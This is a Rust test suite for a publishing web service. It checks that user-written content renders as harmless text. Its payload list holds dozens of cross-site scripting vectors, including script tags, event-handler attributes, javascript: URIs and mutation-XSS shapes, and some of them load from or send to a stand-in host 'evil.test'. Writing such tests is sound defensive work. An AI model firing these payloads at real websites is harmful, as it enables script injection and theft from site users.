//! What other people may write: whatever it is, a page stays a page.

use super::filled::{blank, profile, works};
use super::kit::{get, indexed, publish, say};
use axum::http::StatusCode;
use protocol::id::{RecordId, WorkId};
use protocol::record::publication::Section;
use protocol::record::{Publication, kind};
use protocol::sign::Subject;
use scraper::{Html, Selector};

/// Ways to write a script where none belongs.
fn payloads() -> Vec<String> {
    let scripts = [
        "alert(1)",
        "top['al'+'ert'](1)",
        "fetch('//evil.test')",
        "location='//evil.test'",
        "eval(name)",
        "`${alert(1)}`",
    ];
    let shapes = [
        "<script>{}</script>",
        "<ScRiPt src=//evil.test></sCrIpT>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<math><mtext></p><img src=x onerror={}>",
        "\"><script>{}</script>",
        "'><img src=x onerror={}>",
        "\" onmouseover=\"{}",
        "' autofocus onfocus='{}",
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "java\nscript:{}",
        "&#106;avascript:{}",
        "&#x6A;avascript:{}",
        "%6aavascript:{}",
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:{}",
        "<a href=javascript:{}>a</a>",
        "<iframe src=javascript:{}></iframe>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data=javascript:{}>",
        "<embed src=javascript:{}>",
        "<form action=javascript:{}><button>",
        "<input onfocus={} autofocus>",
        "<body onload={}>",
        "<base href=//evil.test>",
        "<link rel=stylesheet href=//evil.test>",
        "<meta http-equiv=refresh content=0;url=//evil.test>",
        "<style>@import'//evil.test'</style>",
        "<details open ontoggle={}>",
        "<video><source onerror={}></video>",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
        "<template><script>{}</script></template>",
        "<!--<img src=\"--><img src=x onerror={}>\">",
        "<![CDATA[<script>{}</script>]]>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "</script><script>{}</script>",
        "<svg><a xlink:href=javascript:{}><text>a</text></a></svg>",
        "<svg><animate onbegin={} attributeName=x>",
        "<svg></p><style><a id=\"</style><img src=x onerror={}>\">",
        "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
        "[a](javascript:{})",
        "[a](data:text/html,{})",
        "![a](x\" onerror=\"{})",
        "<javascript:{}>",
        "[a]: javascript:{}",
        "[a](&#106;avascript:{})",
        "[a](java&Tab;script:{})",
        "[a](//evil.test)",
        "{{7*7}}{}",
        "{% raw %}{}",
        "\u{202e}{}\u{202c}",
        "\u{0}<script>{}</script>",
        "<scr\u{0}ipt>{}</script>",
        "\u{fe64}script\u{fe65}{}",
        "＜script＞{}＜/script＞",
    ];
    let mut all = Vec::new();
    for (at, shape) in shapes.iter().enumerate() {
        // Each shape with several scripts, not all with all: enough variety, still quick.
        for step in 0..3 {
            all.push(shape.replacen("{}", scripts[(at + step * 2) % scripts.len()], 1));
        }
    }
    all.dedup();
    all
}

/// Elements and attributes that pages of ours have.
const ELEMENTS: &str = "html head meta title link script body a header div svg path span bdi nav ul li form label \
     input button main article p h1 h2 h3 h4 h5 h6 section dl dt dd ol details summary table thead tbody tr th td \
     select option footer aside strong em code pre blockquote br hr del ins mark fieldset legend q g circle text \
     figure rect sub sup";

fn assert_calm(html: &Html, what: &str) {
    for node in html.tree.nodes() {
        let Some(element) = node.value().as_element() else { continue };
        let name = element.name();
        let own_title = name == "title";
        assert!(own_title || ELEMENTS.split_whitespace().any(|one| one == name), "{what}: <{name}>");
        for (attribute, value) in element.attrs() {
            assert!(!attribute.starts_with("on"), "{what}: {attribute} of <{name}>");
            assert!(
                !matches!(attribute, "style" | "srcdoc" | "formaction" | "xlink:href" | "background"),
                "{what}: {attribute}"
            );
            if matches!(attribute, "href" | "src" | "action") {
                let local = value.starts_with('/') && !value.starts_with("//") || value.starts_with('#');
                let web = name == "a"
                    && ["http://", "https://", "mailto:", "tel:"].iter().any(|one| value.starts_with(one));
                let vocabulary = name == "link" && value == "http://purl.org/dc/elements/1.1/";
                assert!(local || web || vocabulary, "{what}: {attribute}={value:?} of <{name}>");
            }
        }
        if name == "script" {
            let data = element.attr("type") == Some("application/ld+json");
            let own = element.attr("src").is_some_and(|src| src.starts_with("/assets/"));
            assert!(own || data, "{what}: a script of somebody else's");
        }
    }
}

#[test]
fn no_payload_in_any_field_becomes_more_than_text() {
    let payloads = payloads();
    assert!(payloads.len() >= 150, "{}", payloads.len());
    let works: Vec<(&String, String)> = payloads
        .iter()
        .flat_map(|payload| works(payload).into_iter().map(move |work| (payload, publish(&work))))
        .collect();
    indexed();
    for (payload, work) in &works {
        let answer = get(&format!("/w/{work}"));
        assert_eq!(answer.status, StatusCode::OK, "{payload}");
        assert_calm(&answer.page(), payload);
        let json = answer.page();
        let json = json.select(&Selector::parse("script[type='application/ld+json']").unwrap()).next();
        let json: String = json.expect("described").text().collect();
        serde_json::from_str::<serde_json::Value>(&json).expect("still JSON");
    }
    for four in works.chunks(4) {
        let asked: Vec<String> = four.iter().map(|(_, id)| format!("w={id}")).collect();
        let answer = get(&format!("/compare?{}", asked.join("&")));
        assert_calm(&answer.page(), "comparison");
    }
    for page in
        ["/", "/?q=alert", "/?q=script&view=map", "/?q=evil&fragment=1", "/resources", "/organisations"]
    {
        let answer = get(page);
        assert_eq!(answer.status, StatusCode::OK);
        assert_calm(&answer.page(), page);
    }
}

#[test]
fn no_payload_in_a_profile_becomes_more_than_text() {
    let list: serde_json::Value =
        serde_json::from_str(&get("/api/v1/organisations").text).expect("the document");
    let address = format!("/organisations/{}", list["organisations"][0]["id"].as_str().expect("ours"));
    let mut said: Vec<RecordId> = Vec::new();
    for (at, payload) in payloads().iter().enumerate() {
        let subject = Subject {
            kind: kind::PROFILE,
            subject: said.first().map(|first| WorkId::from(*first)),
            about: None,
            supersedes: said.last().copied().into_iter().collect(),
        };
        said.push(say(subject, &profile(&format!("{payload} revision-{at}."))));
        let answer = get(&address);
        assert_eq!(answer.status, StatusCode::OK, "{payload}");
        assert!(answer.text.contains(&format!("revision-{at}.")), "{payload}");
        assert_calm(&answer.page(), payload);
        let told: serde_json::Value =
            serde_json::from_str(&get(&format!("/api/v1{address}")).text).expect("the document");
        let about = told["profile"]["about"][0]["text"].as_str();
        assert_eq!(about, Some(format!("{payload} revision-{at}.").as_str()), "programs get every word");
    }
}

#[test]
fn no_payload_in_an_address_becomes_more_than_text() {
    for payload in payloads() {
        let asked: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        for path in [
            format!("/?q={asked}"),
            format!("/?kind={asked}&region={asked}&without={asked}"),
            format!("/town?return={asked}"),
            format!("/resources?place={asked}"),
            format!("/?lang={asked}&q={asked}"),
            format!("/w/{asked}"),
            format!("/compare?w={asked}"),
        ] {
            let answer = get(&path);
            assert!(!answer.status.is_server_error(), "{path}");
            assert_calm(&answer.page(), &path);
        }
    }
}

#[test]
fn broken_and_huge_works_show_a_calm_page() {
    let section = |text: String| Section { role: 1, heading: String::new(), text, language: None };
    let with = |text: String| Publication { title: "Huge".into(), sections: vec![section(text)], ..blank() };
    let works = [
        with("w".repeat(250_000)),
        with("# heading\n\n".repeat(10_000)),
        with("> ".repeat(100_000)),
        with("\u{202e}\u{202d}\u{2066}right to left\u{2069}".repeat(2_000)),
        with("| a ".repeat(20_000) + "|\n" + &"|-".repeat(20_000) + "|\n"),
        with("*".repeat(100_000)),
        with("[".repeat(50_000) + &"](".repeat(50_000)),
        Publication { kind: 99, title: "Of a newer kind".into(), ..blank() },
        Publication { details: vec![255; 64], title: "With details nobody knows".into(), ..blank() },
        Publication {
            language: "x-unknown".into(),
            licence: 999,
            areas: vec![77],
            title: "Codes".into(),
            ..blank()
        },
    ];
    for work in &works {
        let begun = std::time::Instant::now();
        let id = publish(work);
        let answer = get(&format!("/w/{id}"));
        assert_eq!(answer.status, StatusCode::OK, "{}", work.title);
        assert!(answer.text.contains(&work.title));
        assert_calm(&answer.page(), &work.title);
        assert!(begun.elapsed().as_secs() < 10, "{} took {:?}", work.title, begun.elapsed());
    }
}

#[test]
fn questions_that_are_too_much_are_answered() {
    for query in [
        "a+".repeat(500),
        "%22".repeat(300),
        "(".repeat(400),
        "%F0%9F%8F%A0".repeat(100),
        "-".repeat(512),
        "*".into(),
    ] {
        let status = get(&format!("/?q={query}")).status;
        assert!(matches!(status, StatusCode::OK | StatusCode::SERVICE_UNAVAILABLE), "{query}: {status}");
    }
}
